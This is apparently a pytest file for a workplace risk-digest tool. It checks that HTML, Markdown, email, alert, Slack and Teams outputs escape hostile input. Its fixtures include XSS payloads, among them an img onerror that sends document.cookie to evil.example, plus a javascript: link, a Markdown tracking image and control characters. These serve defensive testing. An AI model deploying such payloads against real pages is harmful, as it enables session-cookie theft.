"""Hostile names and text reach every output inert: HTML, Markdown, email parts, alerts, Slack and Teams."""

from __future__ import annotations

import ast
import json
import re
import stat
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from sqlite_utils import Database

from commsignal.config import AlertsConfig, load_config
from commsignal.deliver.alerts import ManagerAlert, ReportChange, alert_text, write_alerts
from commsignal.deliver.email import alert_message, digest_message
from commsignal.detect import Finding, PersonRisk
from commsignal.digest import build_digest, render, write_digest
from commsignal.digest.escape import NAME_LIMIT, clean, md, slack
from commsignal.digest.render import ENVIRONMENTS, TEMPLATES
from commsignal.store import open_db

WEEK = "2026-W47"
SCRIPT = "<script>alert(document.cookie)</script>"
IMG = '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">'
MD_IMAGE = "![pixel](https://evil.example/seen.png)"
MD_LINK = "[click](javascript:alert(1))"
CONTROL = "a\x1b[31mred\x00\u202eevil\u200b\x07z"
LONG = "N" * 10_000
HOSTILE = [SCRIPT, IMG, MD_IMAGE, MD_LINK, CONTROL, "*bold* _em_ `code` | pipe <!channel> &amp;"]
ALL = " ".join(HOSTILE)
CONTROL_CHARS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b]")


def _store() -> Database:
    db = open_db(None)
    db.table("people").insert_all(
        [
            {"person_id": "p-aaaa11112222", "email": "a@example.com", "display_name": ALL,
             "team": IMG + MD_IMAGE},
            {"person_id": "p-bbbb33334444", "email": "b@example.com", "display_name": LONG,
             "team": LONG},
        ]
    )  # fmt: skip
    return db


def _ranked() -> list[PersonRisk]:
    def finding(pid: str, detector: str) -> Finding:
        return Finding(
            pid, WEEK, detector, 0.9, f"device {ALL} seen", {"device": ALL, ALL: LONG},
            "strong", f"Title {SCRIPT}{MD_IMAGE}", f"Guidance {IMG}{MD_LINK}",
        )  # fmt: skip

    return [
        PersonRisk("p-aaaa11112222", 90, "high", [finding("p-aaaa11112222", "marathon_session")]),
        PersonRisk("p-bbbb33334444", 50, "medium", [finding("p-bbbb33334444", "off_timezone")]),
    ]


def _digest(reveal: bool = True) -> dict[str, Any]:
    return build_digest(_store(), WEEK, _ranked(), reveal=reveal, notes=[f"note {ALL}", LONG])


def _md_html(text: str) -> str:
    """What a Markdown previewer shows: CommonMark with raw HTML on, plus GFM tables."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)


def assert_inert_html(html: str) -> None:
    """No element, attribute or URL from data; no control characters."""
    low = html.lower()
    assert "<script>alert" not in low
    assert "<img" not in low
    assert "onerror=" not in low.replace("onerror=&#34;", "").replace("onerror=&quot;", "")
    assert 'src="https://evil' not in low and 'href="javascript' not in low
    assert not CONTROL_CHARS.search(html)


def assert_inert_markdown(text: str) -> None:
    assert not CONTROL_CHARS.search(text)
    html = _md_html(text)
    low = html.lower()
    assert "<img" not in low, html[:2000]
    assert "<a " not in low
    assert "<script" not in low
    assert "<em>bold</em>" not in low and "<em>em</em>" not in low and "<code>code" not in low
    assert "&lt;script&gt;" in low  # the text is still there, as text


def test_html_digest_is_escaped() -> None:
    html = render(_digest(), "html")
    assert_inert_html(html)
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in html
    assert "&lt;img src=x" in html


def test_the_html_check_fails_when_autoescape_is_off(monkeypatch: pytest.MonkeyPatch) -> None:
    env = ENVIRONMENTS["html"]
    assert env.autoescape is True
    monkeypatch.setattr(env, "autoescape", False)
    if env.cache is not None:
        env.cache.clear()
    with pytest.raises(AssertionError):
        assert_inert_html(render(_digest(), "html"))
    monkeypatch.undo()
    if env.cache is not None:
        env.cache.clear()


def test_every_html_template_is_autoescaped() -> None:
    for fmt, name in TEMPLATES.items():
        env = ENVIRONMENTS[fmt]
        on = env.autoescape(name) if callable(env.autoescape) else env.autoescape
        assert on is (".html" in name), (fmt, name)
        if not on:
            assert env.finalize is not None, f"{name}: Markdown without escaping finalize"


def test_no_other_jinja_environment_without_escaping() -> None:
    """Any jinja Environment in the package escapes: autoescape=True, or the Markdown finalize."""
    root = Path(__file__).resolve().parents[1] / "commsignal"
    found = 0
    for path in root.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Environment":
                found += 1
                kw = {k.arg: k.value for k in node.keywords}
                auto = kw.get("autoescape")
                escapes = isinstance(auto, ast.Constant) and auto.value is True
                finalized = getattr(kw.get("finalize"), "id", "") == "md_finalize"
                assert escapes or finalized, f"{path.name}:{node.lineno}"
    assert found >= 2


def test_markdown_digest_is_inert_when_previewed() -> None:
    text = render(_digest(), "md")
    assert_inert_markdown(text)
    # the table of coverage stays a table: no pipe from data splits a row
    assert "\\|" in text


def test_markdown_escaping_keeps_ordinary_text_readable() -> None:
    assert md("Ann Lee, Platform team") == "Ann Lee, Platform team"
    assert md("2026-11-23T00:00:00+00:00") == "2026-11-23T00:00:00+00:00"
    assert md(0.85) == "0.85"
    assert _md_html(md("a_b*c")).strip() == "<p>a_b*c</p>"
    assert _md_html(md("# not a heading")).strip() == "<p># not a heading</p>"


def test_control_characters_dropped_and_long_names_cut() -> None:
    assert clean(CONTROL) == "a[31mredevilz"  # ESC gone, so no terminal escape
    assert clean("two\nlines\ttab") == "two lines tab"
    out = clean(LONG, NAME_LIMIT)
    assert len(out) == NAME_LIMIT and out.endswith("…")
    for fmt in ("html", "md", "json"):
        text = render(_digest(), fmt)
        assert "N" * (NAME_LIMIT + 1) not in text.replace("N" * 1999, "")  # names cut
        assert "N" * 2001 not in text  # no value longer than the text limit
        assert not CONTROL_CHARS.search(text)
    people = json.loads(render(_digest(), "json"))["people"]
    long_person = next(p for p in people if p["person"] == "p-bbbb33334444")
    assert len(long_person["display_name"]) == NAME_LIMIT
    assert len(long_person["team"]) == NAME_LIMIT


def test_email_parts_are_inert(tmp_path: Path) -> None:
    config = load_config(_email_config(tmp_path))
    msg = digest_message(_digest(reveal=False), config.deliver.email)
    plain = msg.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    html = msg.get_body(("html",)).get_content()  # type: ignore[union-attr]
    assert_inert_markdown(plain)
    assert_inert_html(html)


def _alert() -> ManagerAlert:
    return ManagerAlert(
        f"boss{MD_IMAGE}@example.com", WEEK, 4,
        [ReportChange(ALL, ["messages sent: 1 this week, usually about 40"]),
         ReportChange(LONG, [f"odd {SCRIPT}"])],
    )  # fmt: skip


def test_manager_alert_is_inert_in_file_and_email(tmp_path: Path) -> None:
    text = alert_text(_alert())
    assert_inert_markdown(text)
    assert "N" * (NAME_LIMIT + 1) not in text
    config = load_config(_email_config(tmp_path))
    assert_inert_markdown(alert_message(_alert(), config.deliver.email).get_content())
    [path] = write_alerts([_alert()], tmp_path / "out")
    assert path.parent == tmp_path / "out" / "alerts"
    assert "/" not in path.name and "(" not in path.name and "!" not in path.name
    assert_inert_markdown(path.read_text(encoding="utf-8"))


def test_alert_files_do_not_collide_and_are_private(tmp_path: Path) -> None:
    a = ManagerAlert("alice@a.com", WEEK, 3, [])
    b = ManagerAlert("alice@b.com", WEEK, 3, [])
    paths = write_alerts([a, b], tmp_path)
    assert len({p.name for p in paths}) == 2
    assert [p.read_text().count("alice@") for p in paths] == [1, 1]
    assert "alice@a.com" in paths[0].read_text() and "alice@b.com" in paths[1].read_text()
    for p in paths:
        assert stat.S_IMODE(p.stat().st_mode) == 0o600
    assert stat.S_IMODE(paths[0].parent.stat().st_mode) == 0o700
    assert AlertsConfig().enabled is False  # alerts stay opt-in


def test_slack_and_teams_payloads_are_inert(monkeypatch: pytest.MonkeyPatch) -> None:
    from commsignal.config.deliver import SlackDeliver, TeamsDeliver
    from commsignal.deliver import slack as slack_mod
    from commsignal.deliver import teams as teams_mod

    digest = _digest(reveal=False)
    # the summary lists the strongest finding's title: make the person id hostile too
    digest["people"][0]["person"] = f"p-{SCRIPT}<!channel>{MD_IMAGE}{CONTROL}"
    sent: dict[str, Any] = {}

    def fake_post(self: Any, **kw: Any) -> dict[str, str]:
        sent["slack"] = kw["text"]
        return {"ts": "1"}

    monkeypatch.setattr(slack_mod.WebClient, "chat_postMessage", fake_post)
    slack_mod.post_slack_summary(digest, SlackDeliver(channel="C1"), "xoxb-x")
    text = sent["slack"]
    assert "<" not in text and ">" not in text  # no link, mention or command can be formed
    assert "&lt;!channel&gt;" in text and "&lt;script&gt;" in text
    assert not CONTROL_CHARS.search(text)

    class Answer:
        status = 200

        def __enter__(self) -> Answer:
            return self

        def __exit__(self, *exc: object) -> None:
            return None

    def fake_urlopen(request: Any, timeout: float) -> Answer:
        sent["teams"] = json.loads(request.data)["text"]
        return Answer()

    monkeypatch.setattr(teams_mod.urllib.request, "urlopen", fake_urlopen)
    teams_mod.post_teams_summary(digest, TeamsDeliver(), "https://example.webhook.office.com/x")
    assert_inert_markdown(sent["teams"])
    assert slack("a & <b>") == "a &amp; &lt;b&gt;"


def _email_config(tmp_path: Path) -> Path:
    path = tmp_path / "c.toml"
    path.write_text(
        '[deliver.email]\nenabled = true\nhost = "127.0.0.1"\nport = 2525\nstarttls = false\n'
        'sender = "cs@example.com"\nrecipients = ["team@example.com"]\n'
    )
    return path


def test_digest_files_are_private_and_atomic(tmp_path: Path) -> None:
    out = tmp_path / "new" / "digests"
    paths = write_digest(_digest(), out, ["html", "md", "json"])
    for p in paths:
        assert stat.S_IMODE(p.stat().st_mode) == 0o600
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert stat.S_IMODE(out.parent.stat().st_mode) == 0o700
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in paths)  # no temp left
